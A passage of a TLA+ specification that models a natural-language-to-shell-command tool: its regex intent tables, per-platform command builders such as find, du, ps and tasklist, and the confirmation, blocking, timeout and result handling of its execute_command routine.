         re |-> Cat(<< Lit("show"), AnyText, Lit("file"), Opt(Lit("s")), AnyText, Lit("here") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("list"), AnyText, Lit("director"), AnyText, Lit("content") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("what"), AnyText, Lit("file"), Opt(Lit("s")), AnyText, Lit("here") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("dir") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("ls") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("show"), AnyText, Lit("all"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("display"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("file"), Opt(Lit("s")), AnyText, Lit("in"), AnyText, Lit("this") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("content"), Opt(Lit("s")), AnyText, Lit("of"), AnyText, Lit("this") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("what"), AnyText, Lit("is"), AnyText, Lit("in"), AnyText, Lit("this") >>) ],
       [ intent |-> "list_python_files",
         re |-> Cat(<< Lit("python"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "list_python_files",
         re |-> Cat(<< Lit(".py"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "list_python_files",
         re |-> Cat(<< Lit("show"), AnyText, Lit("python") >>) ],
       [ intent |-> "list_python_files",
         re |-> Cat(<< Lit("list"), AnyText, Lit("python") >>) ],
       [ intent |-> "list_python_files",
         re |-> Cat(<< Lit("find"), AnyText, Lit("python"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "list_python_files",
         re |-> Cat(<< Lit("all"), AnyText, Lit(".py") >>) ],
       [ intent |-> "list_specific_files",
         re |-> Cat(<< Lit("show"), AnyText, Grp(Plus(Word)), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "list_specific_files",
         re |-> Cat(<< Lit("list"), AnyText, Grp(Plus(Word)), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "list_specific_files",
         re |-> Cat(<< Lit("find"), AnyText, Grp(Plus(Word)), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "list_specific_files",
         re |-> Cat(<< Lit("all"), AnyText, Lit("."), Grp(Plus(Word)), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("show"), AnyText, Lit("current"), AnyText, Lit("director") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("what"), AnyText, Lit("current"), AnyText, Lit("director") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("where"), AnyText, Lit("am"), AnyText, Lit("i") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("current"), AnyText, Lit("path") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("working"), AnyText, Lit("director") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("pwd") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("current"), AnyText, Lit("location") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("what"), AnyText, Lit("director"), AnyText, Lit("am"), AnyText, Lit("i") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("my"), AnyText, Lit("location") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("present"), AnyText, Lit("working") >>) ],
       [ intent |-> "change_directory",
         re |-> Cat(<< Lit("change"), AnyText, Lit("director"), AnyText, Lit("to"), Plus(WS), Grp(Plus(NonWS)) >>) ],
       [ intent |-> "change_directory",
         re |-> Cat(<< Lit("go"), AnyText, Lit("to"), AnyText, Lit("director"), AnyText, Grp(Plus(NonWS)) >>) ],
       [ intent |-> "change_directory",
         re |-> Cat(<< Lit("cd"), Plus(WS), Grp(Plus(NonWS)) >>) ],
       [ intent |-> "change_directory",
         re |-> Cat(<< Lit("navigate"), AnyText, Lit("to"), Plus(WS), Grp(Plus(NonWS)) >>) ],
       [ intent |-> "change_directory",
         re |-> Cat(<< Lit("move"), AnyText, Lit("to"), AnyText, Lit("director"), AnyText, Grp(Plus(NonWS)) >>) ],
       [ intent |-> "change_directory",
         re |-> Cat(<< Lit("switch"), AnyText, Lit("to"), AnyText, Grp(Plus(NonWS)) >>) ],
       [ intent |-> "create_directory",
         re |-> Cat(<< Lit("create"), AnyText, Lit("director"), AnyText, Grp(Plus(NonWS)) >>) ],
       [ intent |-> "create_directory",
         re |-> Cat(<< Lit("make"), AnyText, Lit("director"), AnyText, Grp(Plus(NonWS)) >>) ],
       [ intent |-> "create_directory",
         re |-> Cat(<< Lit("mkdir"), Plus(WS), Grp(Plus(NonWS)) >>) ],
       [ intent |-> "create_directory",
         re |-> Cat(<< Lit("new"), AnyText, Lit("folder"), AnyText, Grp(Plus(NonWS)) >>) ],
       [ intent |-> "create_directory",
         re |-> Cat(<< Lit("create"), AnyText, Lit("folder"), AnyText, Grp(Plus(NonWS)) >>) ],
       [ intent |-> "create_directory",
         re |-> Cat(<< Lit("make"), AnyText, Lit("folder"), AnyText, Grp(Plus(NonWS)) >>) ],
       [ intent |-> "create_directory",
         re |-> Cat(<< Lit("add"), AnyText, Lit("director"), AnyText, Grp(Plus(NonWS)) >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("show"), AnyText, Lit("process") >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("list"), AnyText, Lit("process") >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("running"), AnyText, Lit("process") >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("task"), AnyText, Lit("list") >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("ps") >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("what"), AnyText, Lit("process"), AnyText, Lit("running") >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("active"), AnyText, Lit("process") >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("current"), AnyText, Lit("process") >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("process"), AnyText, Lit("list") >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("task"), Opt(Lit("s")), AnyText, Lit("running") >>) ],
       [ intent |-> "show_specific_processes",
         re |-> Cat(<< Lit("process"), AnyText, Lit("contain"), AnyText, Grp(Plus(Word)) >>) ],
       [ intent |-> "show_specific_processes",
         re |-> Cat(<< Lit("find"), AnyText, Lit("process"), AnyText, Grp(Plus(Word)) >>) ],
       [ intent |-> "show_specific_processes",
         re |-> Cat(<< Grp(Plus(Word)), AnyText, Lit("process") >>) ],
       [ intent |-> "show_specific_processes",
         re |-> Cat(<< Lit("running"), AnyText, Grp(Plus(Word)) >>) ],
       [ intent |-> "show_specific_processes",
         re |-> Cat(<< Lit("task"), Opt(Lit("s")), AnyText, Lit("with"), AnyText, Grp(Plus(Word)) >>) ],
       [ intent |-> "network_info",
         re |-> Cat(<< Lit("show"), AnyText, Lit("network"), AnyText, Lit("info") >>) ],
       [ intent |-> "network_info",
         re |-> Cat(<< Lit("network"), AnyText, Lit("config") >>) ],
       [ intent |-> "network_info",
         re |-> Cat(<< Lit("ip"), AnyText, Lit("config") >>) ],
       [ intent |-> "network_info",
         re |-> Cat(<< Lit("network"), AnyText, Lit("settings") >>) ],
       [ intent |-> "network_info",
         re |-> Cat(<< Lit("network"), AnyText, Lit("details") >>) ],
       [ intent |-> "network_info",
         re |-> Cat(<< Lit("my"), AnyText, Lit("ip") >>) ],
       [ intent |-> "network_info",
         re |-> Cat(<< Lit("network"), AnyText, Lit("address") >>) ],
       [ intent |-> "network_info",
         re |-> Cat(<< Lit("connection"), AnyText, Lit("info") >>) ],
       [ intent |-> "network_connections",
         re |-> Cat(<< Lit("network"), AnyText, Lit("connection") >>) ],
       [ intent |-> "network_connections",
         re |-> Cat(<< Lit("active"), AnyText, Lit("connection") >>) ],
       [ intent |-> "network_connections",
         re |-> Cat(<< Lit("open"), AnyText, Lit("connection") >>) ],
       [ intent |-> "network_connections",
         re |-> Cat(<< Lit("established"), AnyText, Lit("connection") >>) ],
       [ intent |-> "network_connections",
         re |-> Cat(<< Lit("netstat") >>) ],
       [ intent |-> "network_connections",
         re |-> Cat(<< Lit("who"), AnyText, Lit("connected") >>) ],
       [ intent |-> "system_info",
         re |-> Cat(<< Lit("system"), AnyText, Lit("info") >>) ],
       [ intent |-> "system_info",
         re |-> Cat(<< Lit("show"), AnyText, Lit("system"), AnyText, Lit("info") >>) ],
       [ intent |-> "system_info",
         re |-> Cat(<< Lit("computer"), AnyText, Lit("info") >>) ],
       [ intent |-> "system_info",
         re |-> Cat(<< Lit("machine"), AnyText, Lit("info") >>) ],
       [ intent |-> "system_info",
         re |-> Cat(<< Lit("system"), AnyText, Lit("details") >>) ],
       [ intent |-> "system_info",
         re |-> Cat(<< Lit("hardware"), AnyText, Lit("info") >>) ],
       [ intent |-> "system_info",
         re |-> Cat(<< Lit("system"), AnyText, Lit("specification") >>) ],
       [ intent |-> "disk_usage",
         re |-> Cat(<< Lit("disk"), AnyText, Lit("usage") >>) ],
       [ intent |-> "disk_usage",
         re |-> Cat(<< Lit("disk"), AnyText, Lit("space") >>) ],
       [ intent |-> "disk_usage",
         re |-> Cat(<< Lit("storage"), AnyText, Lit("info") >>) ],
       [ intent |-> "disk_usage",
         re |-> Cat(<< Lit("free"), AnyText, Lit("space") >>) ],
       [ intent |-> "disk_usage",
         re |-> Cat(<< Lit("available"), AnyText, Lit("space") >>) ],
       [ intent |-> "disk_usage",
         re |-> Cat(<< Lit("how"), AnyText, Lit("much"), AnyText, Lit("space") >>) ],
       [ intent |-> "disk_usage",
         re |-> Cat(<< Lit("disk"), AnyText, Lit("size") >>) ],
       [ intent |-> "disk_usage",
         re |-> Cat(<< Lit("storage"), AnyText, Lit("usage") >>) ],
       [ intent |-> "environment_vars",
         re |-> Cat(<< Lit("environment"), AnyText, Lit("variable") >>) ],
       [ intent |-> "environment_vars",
         re |-> Cat(<< Lit("env"), AnyText, Lit("var") >>) ],
       [ intent |-> "environment_vars",
         re |-> Cat(<< Lit("system"), AnyText, Lit("variable") >>) ],
       [ intent |-> "environment_vars",
         re |-> Cat(<< Lit("path"), AnyText, Lit("variable") >>) ],
       [ intent |-> "environment_vars",
         re |-> Cat(<< Lit("show"), AnyText, Lit("env") >>) ],
       [ intent |-> "logged_users",
         re |-> Cat(<< Lit("who"), AnyText, Lit("logged"), AnyText, Lit("in") >>) ],
       [ intent |-> "logged_users",
         re |-> Cat(<< Lit("current"), AnyText, Lit("user") >>) ],
       [ intent |-> "logged_users",
         re |-> Cat(<< Lit("logged"), AnyText, Lit("user") >>) ],
       [ intent |-> "logged_users",
         re |-> Cat(<< Lit("active"), AnyText, Lit("user") >>) ],
       [ intent |-> "logged_users",
         re |-> Cat(<< Lit("who"), AnyText, Lit("online") >>) ],
       [ intent |-> "large_files",
         re |-> Cat(<< Lit("large"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "large_files",
         re |-> Cat(<< Lit("big"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "large_files",
         re |-> Cat(<< Lit("huge"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "large_files",
         re |-> Cat(<< Lit("file"), Opt(Lit("s")), AnyText, Lit("large") >>) ],
       [ intent |-> "large_files",
         re |-> Cat(<< Lit("biggest"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "recent_files",
         re |-> Cat(<< Lit("recent"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "recent_files",
         re |-> Cat(<< Lit("modified"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "recent_files",
         re |-> Cat(<< Lit("new"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "recent_files",
         re |-> Cat(<< Lit("latest"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "recent_files",
         re |-> Cat(<< Lit("file"), Opt(Lit("s")), AnyText, Lit("modified") >>) ],
       [ intent |-> "recent_files",
         re |-> Cat(<< Lit("changed"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "file_count",
         re |-> Cat(<< Lit("how"), AnyText, Lit("many"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "file_count",
         re |-> Cat(<< Lit("count"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "file_count",
         re |-> Cat(<< Lit("number"), AnyText, Lit("of"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ intent |-> "file_count",
         re |-> Cat(<< Lit("file"), Opt(Lit("s")), AnyText, Lit("count") >>) ],
       [ intent |-> "memory_usage",
         re |-> Cat(<< Lit("memory"), AnyText, Lit("usage") >>) ],
       [ intent |-> "memory_usage",
         re |-> Cat(<< Lit("ram"), AnyText, Lit("usage") >>) ],
       [ intent |-> "memory_usage",
         re |-> Cat(<< Lit("memory"), AnyText, Lit("info") >>) ],
       [ intent |-> "memory_usage",
         re |-> Cat(<< Lit("free"), AnyText, Lit("memory") >>) ],
       [ intent |-> "memory_usage",
         re |-> Cat(<< Lit("available"), AnyText, Lit("memory") >>) ] >>

\* AiNuxLLM._parse_with_regex: advanced_patterns, with the helper each calls
advanced_patterns ==
    << [ fn |-> "large_files",
         re |-> Cat(<< Lit("find"), AnyText, Lit("file"), Opt(Lit("s")), AnyText, Lit("larger"), AnyText, Lit("than"), AnyText, Grp(Plus(Digit)) >>) ],
       [ fn |-> "recent_today",
         re |-> Cat(<< Lit("show"), AnyText, Lit("file"), Opt(Lit("s")), AnyText, Lit("modified"), AnyText, Lit("today") >>) ],
       [ fn |-> "recent_days",
         re |-> Cat(<< Lit("file"), Opt(Lit("s")), AnyText, Lit("modified"), AnyText, Lit("last"), AnyText, Grp(Plus(Digit)), AnyText, Lit("day"), Opt(Lit("s")) >>) ],
       [ fn |-> "file_count",
         re |-> Cat(<< Lit("count"), AnyText, Lit("file"), Opt(Lit("s")), AnyText, Lit("in"), AnyText, Lit("current") >>) ],
       [ fn |-> "total_size",
         re |-> Cat(<< Lit("size"), AnyText, Lit("of"), AnyText, Lit("all"), AnyText, Lit("file"), Opt(Lit("s")) >>) ],
       [ fn |-> "kill_process",
         re |-> Cat(<< Lit("kill"), AnyText, Lit("process"), AnyText, Grp(Plus(Word)) >>) ],
       [ fn |-> "process_memory",
         re |-> Cat(<< Lit("memory"), AnyText, Lit("used"), AnyText, Lit("by"), AnyText, Grp(Plus(Word)) >>) ],
       [ fn |-> "disk_space",
         re |-> Cat(<< Lit("free"), AnyText, Lit("space"), AnyText, Lit("on"), AnyText, Grp(Plus(Word)) >>) ],
       [ fn |-> "temperature",
         re |-> Alt(<< Cat(<< Lit("temperature") >>), Cat(<< Lit("thermal") >>) >>) ],
       [ fn |-> "uptime",
         re |-> Alt(<< Cat(<< Lit("uptime") >>), Cat(<< Lit("how"), AnyText, Lit("long"), AnyText, Lit("running") >>) >>) ] >>

\* int(s) for a string of decimal digits, and str(n) for a natural number.
DigitString == "0123456789"

RECURSIVE int(_)
int(s) ==
    IF s = "" THEN 0
    ELSE 10 * int(SubSeq(s, 1, Len(s) - 1))
         + (CHOOSE n \in 0..9 : CharAt(DigitString, n + 1) = CharAt(s, Len(s)))

RECURSIVE str(_)
str(n) ==
    IF n < 10 THEN CharAt(DigitString, n + 1)
    ELSE str(n \div 10) \o CharAt(DigitString, (n % 10) + 1)

\* Variant: a platform without a table of its own is served from the linux
\* table.
Get_posix_default(mappings, command_type) ==
    LET p == IF platform \in DOMAIN mappings THEN platform ELSE "linux"
    IN  IF command_type \in DOMAIN mappings[p]
        THEN { mappings[p][command_type] } ELSE {}

\* self.command_mappings.get(self.platform, {}).get(command_type): the set
\* holding the command, empty for None.
Get(mappings, command_type) ==
    IF platform \in DOMAIN mappings /\ command_type \in DOMAIN mappings[platform]
    THEN { mappings[platform][command_type] }
    ELSE {}

\* The element of a set of one element.
The(S) == CHOOSE x \in S : TRUE

\* The two nested loops: the first pattern, in table order, that matches and
\* whose intent has a command on this platform; 0 when the loops run out.
FirstHit(table, mappings, s) ==
    LET H == { k \in DOMAIN table :
                 Get(mappings, table[k].intent) # {} /\ Search(table[k].re, s) }
    IN  IF H = {} THEN 0 ELSE Min(H)

\* AiNux.parse_natural_language: the set holding the command, empty for None.
AiNux_parse_natural_language(user_input) ==
    LET input_lower == strip(lower(user_input))
        k == FirstHit(AiNux_patterns, AiNux_command_mappings, input_lower)
        command_type == AiNux_patterns[k].intent
        base_command == The(Get(AiNux_command_mappings, command_type))
    IN  IF k = 0 THEN {}
        ELSE IF /\ command_type \in { "change_directory", "create_directory" }
                /\ HasGroup(AiNux_patterns[k].re)
             THEN { base_command \o " " \o Group1(AiNux_patterns[k].re, input_lower) }
             ELSE { base_command }

get_large_files_command(size_mb) ==
    IF platform = "windows"
    THEN "forfiles /s /c \"cmd /c if @fsize geq " \o str(int(size_mb) * 1024 * 1024) \o " echo @path @fsize\""
    ELSE "find . -size +" \o size_mb \o "M -ls"

get_recent_files_command(timeframe) ==
    IF platform = "windows"
    THEN IF timeframe = "today"
         THEN "forfiles /m *.* /c \"cmd /c echo @path @fdate @ftime\""
         ELSE "forfiles /m *.* /d -" \o timeframe \o " /c \"cmd /c echo @path @fdate\""
    ELSE IF timeframe = "today"
         THEN "find . -newermt \"$(date +%Y-%m-%d)\" -ls"
         ELSE "find . -mtime -" \o timeframe \o " -ls"

get_file_count_command ==
    IF platform = "windows" THEN "dir /b | find /c /v \"\"" ELSE "ls -1 | wc -l"

get_total_size_command ==
    IF platform = "windows" THEN "dir /s" ELSE "du -sh ."

get_kill_process_command(process_name) ==
    IF platform = "windows"
    THEN "tasklist /fi \"imagename eq " \o process_name \o "*\""
    ELSE "ps aux | grep " \o process_name

get_process_memory_command(process_name) ==
    IF platform = "windows"
    THEN "tasklist /fi \"imagename eq " \o process_name \o "*\" /fo table"
    ELSE "ps aux | grep " \o process_name \o " | awk '{print $4\" \"$11}'"

get_disk_space_command(drive) ==
    IF platform = "windows"
    THEN "dir " \o drive \o ":\\ /-c"
    ELSE "df -h /" \o drive \o " 2>/dev/null || df -h"

get_temperature_command ==
    IF platform = "windows"
    THEN "wmic /namespace:\\\\root\\wmi PATH MSAcpi_ThermalZoneTemperature get CurrentTemperature"
    ELSE "sensors 2>/dev/null || cat /sys/class/thermal/thermal_zone*/temp 2>/dev/null || echo \"Temperature sensors not available\""

get_uptime_command ==
    IF platform = "windows" THEN "systeminfo | findstr \"System Boot Time\"" ELSE "uptime"

\* command_func(match) for the advanced pattern e matched against s.
AdvancedCommand(e, s) ==
    CASE e.fn = "large_files"    -> get_large_files_command(Group1(e.re, s))
      [] e.fn = "recent_today"   -> get_recent_files_command("today")
      [] e.fn = "recent_days"    -> get_recent_files_command(Group1(e.re, s))
      [] e.fn = "file_count"     -> get_file_count_command
      [] e.fn = "total_size"     -> get_total_size_command
      [] e.fn = "kill_process"   -> get_kill_process_command(Group1(e.re, s))
      [] e.fn = "process_memory" -> get_process_memory_command(Group1(e.re, s))
      [] e.fn = "disk_space"     -> get_disk_space_command(Group1(e.re, s))
      [] e.fn = "temperature"    -> get_temperature_command
      [] e.fn = "uptime"         -> get_uptime_command

\* AiNuxLLM._parse_with_regex: the set holding the command, empty for None.
parse_with_regex(user_input) ==
    LET input_lower == strip(lower(user_input))
        k == FirstHit(patterns, command_mappings, input_lower)
        command_type == patterns[k].intent
        base_command == The(Get(command_mappings, command_type))
        A == { a \in DOMAIN advanced_patterns :
                 Search(advanced_patterns[a].re, input_lower) }
    IN  IF k # 0
        THEN IF /\ command_type \in { "change_directory", "create_directory" }
                /\ HasGroup(patterns[k].re)
             THEN { base_command \o " " \o Group1(patterns[k].re, input_lower) }
             ELSE IF command_type = "list_specific_files" /\ HasGroup(patterns[k].re)
             THEN IF platform = "windows"
                  THEN { "dir *." \o Group1(patterns[k].re, input_lower) }
                  ELSE { "ls -la *." \o Group1(patterns[k].re, input_lower) }
             ELSE IF command_type = "show_specific_processes" /\ HasGroup(patterns[k].re)
             THEN IF platform = "windows"
                  THEN { "tasklist /fi \"imagename eq " \o Group1(patterns[k].re, input_lower) \o "*\"" }
                  ELSE { "ps aux | grep " \o Group1(patterns[k].re, input_lower) }
             ELSE { base_command }
        ELSE IF A # {}
        THEN { AdvancedCommand(advanced_patterns[Min(A)], input_lower) }
        ELSE {}

----------------------------------------------------------------------------
(* The dictionaries execute_command returns *)

BlockedResult(cmd) ==
    [ success |-> FALSE, output |-> "",
      error |-> "Command blocked for security reasons: " \o cmd,
      command |-> cmd ]

CancelledResult(cmd) ==
    [ success |-> FALSE, output |-> "",
      error |-> "Execution cancelled by user: " \o cmd,
      command |-> cmd ]

\* Variant: success is decided by an empty stderr.
CompletedResult_stderr_decides(cmd, p) ==
    [ success |-> (strip(p.stderr) = ""),
      output |-> IF p.stdout # "" THEN strip(p.stdout) ELSE "",
      error |-> IF p.stderr # "" THEN strip(p.stderr) ELSE "",
      command |-> cmd,
      return_code |-> p.returncode ]

\* Variant: the captured text is returned without strip().
CompletedResult_unstripped(cmd, p) ==
    [ success |-> (p.returncode = 0),
      output |-> p.stdout,
      error |-> p.stderr,
      command |-> cmd,
      return_code |-> p.returncode ]

\* p is the CompletedProcess: returncode, stdout, stderr.
CompletedResult(cmd, p) ==
    [ success |-> (p.returncode = 0),
      output |-> IF p.stdout # "" THEN strip(p.stdout) ELSE "",
      error |-> IF p.stderr # "" THEN strip(p.stderr) ELSE "",
      command |-> cmd,
      return_code |-> p.returncode ]

TimeoutResult(cmd) ==
    [ success |-> FALSE, output |-> "",
      error |-> "Command timed out after 30 seconds: " \o cmd,
      command |-> cmd ]

\* Variant: the error is str(e) alone, without the prefix.
ErrorResult_bare(cmd, e) ==
    [ success |-> FALSE, output |-> "", error |-> e, command |-> cmd ]

\* e is str(e) of the exception caught.
ErrorResult(cmd, e) ==
    [ success |-> FALSE, output |-> "",
      error |-> "Unexpected error executing command: " \o e,
      command |-> cmd ]

\* Variant: the answer is compared without upper().
Declined_case_sensitive(confirm) == confirm # "YES"

\* confirm.upper() != "YES"
Declined(confirm) == upper(confirm) # "YES"

\* subprocess.run, after killing the child on a timeout, waits for the pipes
\* to drain on Windows and for the child alone elsewhere.
DrainsPipesAfterKill == platform = "windows"

----------------------------------------------------------------------------
(* AiNuxLLM.execute_command, one action per step between blocking points *)

\* The caller invokes execute_command(c): safety = self.is_command_safe(command).
Call(c) ==
    /\ pc = "Idle"
    /\ command' = c
    /\ safety' = is_command_safe(c)
    /\ pc' = "Classified"
    /\ matches' = Matching(c)
    /\ UNCHANGED << objVars, loopVars, shellCwd, arg2, verdict2, resolved, response,
                    asked, spawned, shell, desc, completed, result, exc, arg,
                    verdict >>

\* The caller invokes AiNux.execute_command(c): the base class knows two
\* verdicts, and 'if not self.is_command_safe(command)' picks the branch.
BaseCall(c) ==
    /\ pc = "Idle"
    /\ command' = c
    /\ safety' = AiNux_is_command_safe(c)
    /\ pc' = "Classified"
    /\ matches' = [ forbidden |-> ContainsBaseEntry(c), confirmable |-> FALSE ]
    /\ UNCHANGED << objVars, loopVars, shellCwd, arg2, verdict2, resolved, response,
                    asked, spawned, shell, desc, completed, result, exc, arg,
                    verdict >>

\* if safety is False: return the blocked dictionary.
Block ==
    /\ pc = "Classified"
    /\ safety = PyFalse
    /\ result' = { BlockedResult(command) }
    /\ pc' = "Blocked"
    /\ UNCHANGED << objVars, loopVars, shellCwd, arg2, verdict2, resolved, command,
                    safety, response, asked, spawned, shell, desc, completed,
                    exc, arg, verdict, matches >>

\* if safety == "confirm": print the warning and call input().
AskConfirm ==
    /\ pc = "Classified"
    /\ safety = Confirm
    /\ asked' = asked + 1
    /\ pc' = "AwaitingConfirmation"
    /\ UNCHANGED << objVars, loopVars, shellCwd, arg2, verdict2, resolved, command,
                    safety, response, spawned, shell, desc, completed, result,
                    exc, arg, verdict, matches >>

\* input() returns line; confirm = line.strip(); anything but YES cancels.
Answer(line) ==
    /\ pc = "AwaitingConfirmation"
    /\ response' = Append(response, line)
    /\ LET confirm == strip(line)
       IN  IF Declined(confirm)
           THEN /\ result' = { CancelledResult(command) }
                /\ pc' = "Cancelled"
           ELSE /\ result' = result
                /\ pc' = "Confirmed"
    /\ UNCHANGED << objVars, loopVars, shellCwd, arg2, verdict2, resolved, command,
                    safety, asked, spawned, shell, desc, completed, exc, arg,
                    verdict, matches >>

\* input() raises EOFError: the prompt is outside the try block.
InputFails ==
    /\ pc = "AwaitingConfirmation"
    /\ exc' = "EOFError"
    /\ pc' = "Raised"
    /\ UNCHANGED << objVars, loopVars, shellCwd, arg2, verdict2, resolved, command,
                    safety, response, asked, spawned, shell, desc, completed,
                    result, arg, verdict, matches >>

\* Safe or confirmed: the command may be run.
MayRun ==
    \/ pc = "Classified" /\ safety = PyTrue
    \/ pc = "Confirmed"

\* Variant: the normalised string is what subprocess.run receives.
Spawn_normalised ==
    /\ MayRun
    /\ spawned' = Append(spawned, Normalize(command))
    /\ shell' = "running"
    /\ shellCwd' = cwd
    /\ pc' = "Running"
    /\ UNCHANGED << objVars, loopVars, arg2, verdict2, resolved, command, safety,
                    response, asked, desc, completed, result, exc, arg,
                    verdict, matches >>

\* subprocess.run(command, shell=True, ...) starts the shell child.
Spawn ==
    /\ MayRun
    /\ spawned' = Append(spawned, command)
    /\ shell' = "running"
    /\ shellCwd' = cwd
    /\ pc' = "Running"
    /\ UNCHANGED << objVars, loopVars, arg2, verdict2, resolved, command, safety,
                    response, asked, desc, completed, result, exc, arg,
                    verdict, matches >>

\* subprocess.run raises before a child exists: except Exception.
SpawnFails(e) ==
    /\ MayRun
    /\ spawned' = Append(spawned, command)
    /\ result' = { ErrorResult(command, e) }
    /\ pc' = "SpawnFailed"
    /\ UNCHANGED << objVars, loopVars, shellCwd, arg2, verdict2, resolved, command,
                    safety, response, asked, shell, desc, completed, exc, arg,
                    verdict, matches >>

\* The shell child starts a process that inherits its pipes.
Fork ==
    /\ pc = "Running"
    /\ shell = "running"
    /\ desc < MaxDesc
    /\ desc' = desc + 1
    /\ UNCHANGED << objVars, loopVars, shellCwd, arg2, verdict2, resolved, pc, command,
                    safety, response, asked, spawned, shell, completed,
                    result, exc, arg, verdict, matches >>

\* The shell child runs the cd the command consists of: its own working
\* directory changes, that of the calling process does not.
Chdir(d) ==
    /\ pc = "Running"
    /\ shell = "running"
    /\ strip(command) = "cd " \o d
    /\ shellCwd # d
    /\ shellCwd' = d
    /\ UNCHANGED << objVars, loopVars, arg2, verdict2, resolved, pc, command, safety,
                    response, asked, spawned, shell, desc, completed, result,
                    exc, arg, verdict, matches >>

\* The shell child exits by itself.
ShellExit ==
    /\ pc = "Running"
    /\ shell = "running"
    /\ shell' = "exited"
    /\ UNCHANGED << objVars, loopVars, shellCwd, arg2, verdict2, resolved, pc, command,
                    safety, response, asked, spawned, desc, completed, result,
                    exc, arg, verdict, matches >>

\* A process started by the shell child exits.
DescExit ==
    /\ pc \in { "Running", "Draining", "TimedOut" }
    /\ desc > 0
    /\ desc' = desc - 1
    /\ UNCHANGED << objVars, loopVars, shellCwd, arg2, verdict2, resolved, pc, command,
                    safety, response, asked, spawned, shell, completed,
                    result, exc, arg, verdict, matches >>

\* The pipes reached end of file and the child was reaped within the budget.
PipesClosed == shell = "exited" /\ desc = 0

\* subprocess.run returns the CompletedProcess; the dictionary is built from it.
Complete(rc, out, err) ==
    /\ pc = "Running"
    /\ PipesClosed
    /\ completed' = << [ returncode |-> rc, stdout |-> out, stderr |-> err ] >>
    /\ result' = { CompletedResult(command, completed'[1]) }
    /\ pc' = "Completed"
    /\ UNCHANGED << objVars, loopVars, shellCwd, arg2, verdict2, resolved, command,
                    safety, response, asked, spawned, shell, desc, exc, arg,
                    verdict, matches >>

\* timeout=30 expires inside communicate(): subprocess.run kills the child,
\* then waits (for the pipes on Windows, for the child elsewhere) and re-raises
\* TimeoutExpired, which execute_command turns into the timeout dictionary.
Expire ==
    /\ pc = "Running"
    /\ ~PipesClosed
    /\ shell' = IF shell = "running" THEN "killed" ELSE shell
    /\ IF DrainsPipesAfterKill
       THEN /\ pc' = "Draining"
            /\ result' = result
       ELSE /\ pc' = "TimedOut"
            /\ result' = { TimeoutResult(command) }
    /\ UNCHANGED << objVars, loopVars, shellCwd, arg2, verdict2, resolved, command,
                    safety, response, asked, spawned, desc, completed, exc,
                    arg, verdict, matches >>

\* Windows: communicate() after kill() returns once every pipe holder is gone.
Drain ==
    /\ pc = "Draining"
    /\ desc = 0
    /\ result' = { TimeoutResult(command) }
    /\ pc' = "TimedOut"
    /\ UNCHANGED << objVars, loopVars, shellCwd, arg2, verdict2, resolved, command,
                    safety, response, asked, spawned, shell, desc, completed,
                    exc, arg, verdict, matches >>

\* Variant: the command ran in the calling process, so its cd stays in force.
Return_keeps_directory ==
    /\ pc \in Terminal
    /\ pc' = "Idle"
    /\ command' = ""
    /\ safety' = ""
    /\ response' = <<>>
    /\ asked' = 0
    /\ spawned' = <<>>
    /\ shell' = "none"
    /\ desc' = 0
    /\ completed' = <<>>
    /\ result' = {}
    /\ exc' = ""
    /\ shellCwd' = ""
    /\ cwd' = IF shellCwd = "" THEN cwd ELSE shellCwd
    /\ matches' = NoMatches
